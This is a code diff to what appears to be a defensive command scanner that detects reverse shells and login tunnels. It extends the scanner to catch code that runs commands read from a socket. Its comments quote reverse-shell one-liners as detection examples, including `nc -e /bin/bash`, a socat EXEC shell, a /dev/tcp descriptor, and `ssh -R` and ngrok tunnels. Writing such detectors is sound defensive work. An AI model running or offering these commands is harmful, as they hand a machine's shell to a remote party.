@@ -5,6 +5,7 @@ import type { Finding } from './git-rules.ts';
 import { tunnelledLogin } from './login-tunnels.ts';
 import { networkPath, networkSink, opensConnection } from './network-sinks.ts';
 import { parseShell } from './shell.ts';
+import { codeRunsFromSocket, opensZtcp, ztcpDescriptor } from './socket-commands.ts';
 import type { SimpleCommand } from './syntax.ts';
 
 /**
@@ -22,7 +23,9 @@ import type { SimpleCommand } from './syntax.ts';
  * - a program a connection runs with its stdin and stdout (network-sinks.ts Sink.runs: `nc -e
  *   /bin/bash h p`, `ncat --sh-exec sh`, `socat TCP:h:p EXEC:'bash -li',pty`) that is such a shell;
  * - inline code (`python3 -c`, `perl -e`, `php -r`, `ruby -e`, `node -e`) that opens a socket and
- *   names a shell to start (`subprocess.call(["/bin/sh","-i"])`, `exec("/bin/sh -i <&3 >&3")`);
+ *   names a shell to start (`subprocess.call(["/bin/sh","-i"])`, `exec("/bin/sh -i <&3 >&3")`), or
+ *   runs the command lines it reads from it (socket-commands.ts: Perl's `system$_ while<>`, Lua's
+ *   `io.popen(r)`, PowerShell's `iex`, gawk's `/inet/tcp` with a command pipe; zsh's `ztcp`);
  * - a tunnel that hands this machine's login to another host (login-tunnels.ts: `ssh -R
  *   2222:localhost:22 h`, `ngrok tcp 22`).
  *
@@ -32,9 +35,17 @@ import type { SimpleCommand } from './syntax.ts';
 export function checkRemoteShells(commands: readonly SimpleCommand[], invocationOf: (cmd: SimpleCommand) => Invocation | null): Finding | null {
   // `exec 5<>/dev/tcp/h/p`: a descriptor above 2 that any later command may read or write (the parser keeps no number)
   const socketDescriptor = commands.some((c) => !invocationOf(c)?.args.length && c.redirects.some((r) => r.target && networkPath(r.target.value)));
+  // zsh's `ztcp h p` leaves its socket's descriptor in $REPLY (socket-commands.ts)
+  const ztcp = opensZtcp(commands, invocationOf);
   const touches = (c: SimpleCommand, inv: Invocation | null) =>
     (inv !== null && opensConnection(inv)) ||
-    c.redirects.some((r) => r.target && (networkPath(r.target.value) || (socketDescriptor && /&$/.test(r.op) && /^([3-9]|\d\d+)$/.test(r.target.value))));
+    c.redirects.some(
+      (r) =>
+        r.target &&
+        (networkPath(r.target.value) ||
+          (socketDescriptor && /&$/.test(r.op) && /^([3-9]|\d\d+)$/.test(r.target.value)) ||
+          (ztcp && /&$/.test(r.op) && ztcpDescriptor(r.target.raw))),
+    );
   const pipelines = new Map<number, { shell: Invocation | null; network: boolean }>();
   for (const c of commands) {
     const inv = invocationOf(c);
@@ -47,6 +58,7 @@ export function checkRemoteShells(commands: readonly SimpleCommand[], invocation
     const run = opensConnection(inv) ? networkSink(inv)?.runs.find(isInteractiveShell) : undefined;
     if (run !== undefined) return finding(`\`${inv.program}\` hands \`${run}\` to whoever is at the other end of its connection`);
     if (codeBindsShell(inv)) return finding(`\`${inv.program}\`'s code opens a socket and starts a shell on it`);
+    if (codeRunsFromSocket(inv)) return finding(`\`${inv.program}\`'s code opens a socket and runs the commands it reads from it`);
     const tunnel = tunnelledLogin(inv);
     if (tunnel) return finding(tunnel);
   }
